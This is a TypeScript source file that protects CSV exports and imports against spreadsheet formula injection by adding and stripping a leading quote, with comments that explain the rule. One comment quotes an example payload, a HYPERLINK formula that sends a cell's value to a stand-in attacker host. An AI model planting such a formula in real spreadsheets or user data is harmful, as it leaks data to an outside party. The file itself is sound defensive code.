// The one rule for what a CSV cell holds, and its exact reverse. It sits at the bottom
// (imports nothing of the project) so the writer (src/output/csv.ts) and the reader of
// `member import` (src/domain/bulk/rows.ts) share it without a layer importing upwards.
//
// A spreadsheet runs a cell that starts with = + - @ (or their full-width forms, which
// some spreadsheets read as the same), a tab, CR or LF as a formula: a user named
// =HYPERLINK("http://evil.example/?x="&A1,"Click") would run in a support engineer's
// Excel. OWASP's advice is to prefix such a cell with a single quote, which makes a
// spreadsheet show it as text. To keep export → import exact for every stored value, a
// cell that already starts with that quote followed by one of those characters or by
// another quote gets one more quote, and the reader strips one leading quote from
// exactly those cells. So:
//   =1+1 → '=1+1    '=1+1 → ''=1+1    'abc → 'abc (unchanged)    '' → '''
// and restoreCell(neutraliseCell(s)) === s for every string s.

const STARTS_FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/u;
const ESCAPED = /^'[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20']/u;

/** The cell as written to CSV: a leading quote added where a spreadsheet could read a formula. */
export function neutraliseCell(text: string): string {
  return STARTS_FORMULA.test(text) || ESCAPED.test(text) ? `'${text}` : text;
}

/** The stored value of a cell read from CSV: the exact reverse of neutraliseCell. */
export function restoreCell(text: string): string {
  return ESCAPED.test(text) ? text.slice(1) : text;
}
